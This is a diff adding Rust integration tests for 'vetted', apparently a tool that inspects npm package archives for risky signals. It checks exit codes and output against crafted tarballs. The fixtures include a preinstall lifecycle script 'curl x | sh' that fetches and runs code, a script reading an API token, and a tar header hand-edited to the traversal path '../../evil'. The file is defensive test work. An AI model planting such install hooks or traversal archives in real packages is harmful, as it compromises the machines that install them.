@@ -1,0 +1,167 @@
+//! `vetted inspect` through the binary: exit codes and output for benign and hostile archives.
+use std::io::Write;
+use std::process::Command;
+
+fn run(args: &[&str]) -> (i32, String, String) {
+    let out = Command::new(env!("CARGO_BIN_EXE_vetted"))
+        .args(args)
+        .output()
+        .unwrap();
+    (
+        out.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+fn tgz(entries: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut b = tar::Builder::new(Vec::new());
+    for (path, data) in entries {
+        let mut h = tar::Header::new_gnu();
+        h.set_size(data.len() as u64);
+        h.set_mode(0o755);
+        h.set_cksum();
+        b.append_data(&mut h, path, *data).unwrap();
+    }
+    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    e.write_all(&b.into_inner().unwrap()).unwrap();
+    e.finish().unwrap()
+}
+
+#[test]
+fn benign_tarball_human_and_json() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("a.bin"); // the extension does not matter: magic bytes do
+    let pkg = br#"{"name":"@s/tool","version":"2.0.0","bin":{"tool":"cli.js"},
+        "scripts":{"preinstall":"curl x | sh","build":"tsc"},
+        "optionalDependencies":{"@s/tool-linux-x64":"2.0.0"}}"#;
+    std::fs::write(
+        &path,
+        tgz(&[
+            ("package/package.json", pkg),
+            (
+                "package/cli.js",
+                b"#!/usr/bin/env node\nprocess.env['API_TOKEN'];\n",
+            ),
+            (
+                "package/bin/native",
+                b"\x7fELF\x02\x01\x01\0 wss://relay.example.net/x \0",
+            ),
+        ]),
+    )
+    .unwrap();
+    let p = path.to_str().unwrap();
+    let (code, out, err) = run(&["inspect", p]);
+    assert_eq!(code, 0, "{err}");
+    assert!(out.contains("archive: tgz"));
+    assert!(
+        out.contains("lifecycle script preinstall: curl x | sh"),
+        "{out}"
+    );
+    assert!(!out.contains("lifecycle script build"), "{out}");
+    assert!(out.contains("bin tool: cli.js"));
+    let (code, out, _) = run(&["inspect", "--json", p]);
+    assert_eq!(code, 0);
+    let j: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(j["totals"]["files"], 3);
+    assert_eq!(
+        j["entries"]["package/bin/native"]["signals"]["executable"],
+        "elf"
+    );
+    assert_eq!(
+        j["entries"]["package/bin/native"]["signals"]["urls"][0],
+        "wss://relay.example.net/x"
+    );
+    assert_eq!(
+        j["entries"]["package/cli.js"]["signals"]["env_vars"][0],
+        "API_TOKEN"
+    );
+    assert_eq!(j["entries"]["package/cli.js"]["mode"], 0o755);
+    assert_eq!(
+        j["package"]["dependencies"]["optionalDependencies"]["@s/tool-linux-x64"],
+        "2.0.0"
+    );
+}
+
+#[test]
+fn hostile_archives_exit_1_naming_the_rule() {
+    let dir = tempfile::tempdir().unwrap();
+    // Traversal through a hand-edited GNU header name (the tar crate refuses to write "..").
+    let mut t = tgz(&[("package/x", b"x")]);
+    let mut raw = Vec::new();
+    std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(&t[..]), &mut raw).unwrap();
+    raw[..12].copy_from_slice(b"../../evil\0\0");
+    let sum: u32 = raw[..512]
+        .iter()
+        .enumerate()
+        .map(|(i, b)| {
+            if (148..156).contains(&i) {
+                32
+            } else {
+                u32::from(*b)
+            }
+        })
+        .sum();
+    raw[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
+    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    e.write_all(&raw).unwrap();
+    t = e.finish().unwrap();
+    let p = dir.path().join("evil.tgz");
+    std::fs::write(&p, &t).unwrap();
+    let (code, _, err) = run(&["inspect", p.to_str().unwrap()]);
+    assert_eq!(code, 1, "{err}");
+    assert!(err.contains("archive-path-parent"), "{err}");
+    // Limits from the command line.
+    let p = dir.path().join("many.tgz");
+    std::fs::write(&p, tgz(&[("a", b"1"), ("b", b"2"), ("c", b"3")])).unwrap();
+    let (code, _, err) = run(&["inspect", "--max-entries", "2", p.to_str().unwrap()]);
+    assert_eq!(code, 1, "{err}");
+    assert!(
+        err.contains("archive-limit") && err.contains("archive entries"),
+        "{err}"
+    );
+    let (code, _, err) = run(&["inspect", "--max-file-size", "0", p.to_str().unwrap()]);
+    assert_eq!(code, 1, "{err}");
+    let (code, _, err) = run(&[
+        "inspect",
+        "--max-unpacked",
+        "2",
+        "--json",
+        p.to_str().unwrap(),
+    ]);
+    assert_eq!(code, 1, "{err}");
+    // Corrupt gzip.
+    let mut bad = tgz(&[("a", b"1")]);
+    let n = bad.len();
+    bad[n - 6] ^= 0x55;
+    let p = dir.path().join("bad.tgz");
+    std::fs::write(&p, &bad).unwrap();
+    let (code, _, err) = run(&["inspect", p.to_str().unwrap()]);
+    assert_eq!(code, 1, "{err}");
+    assert!(err.contains("archive-corrupt-gzip"), "{err}");
+}
+
+#[test]
+fn missing_file_is_exit_2() {
+    let (code, _, _) = run(&["inspect", "/nonexistent/dir/file.tgz"]);
+    assert_eq!(code, 2);
+}
+
+#[test]
+fn help_explains_the_flags() {
+    let (code, out, _) = run(&["inspect", "--help"]);
+    assert_eq!(code, 0);
+    for flag in [
+        "--json",
+        "--max-entries",
+        "--max-unpacked",
+        "--max-file-size",
+        "--registry",
+        "--cache-dir",
+    ] {
+        assert!(out.contains(flag), "{flag} missing from --help");
+    }
+    let (code, out, _) = run(&["fetch", "--help"]);
+    assert_eq!(code, 0);
+    assert!(out.contains("--insecure-allow-http") && out.contains("--stall-timeout"));
+}
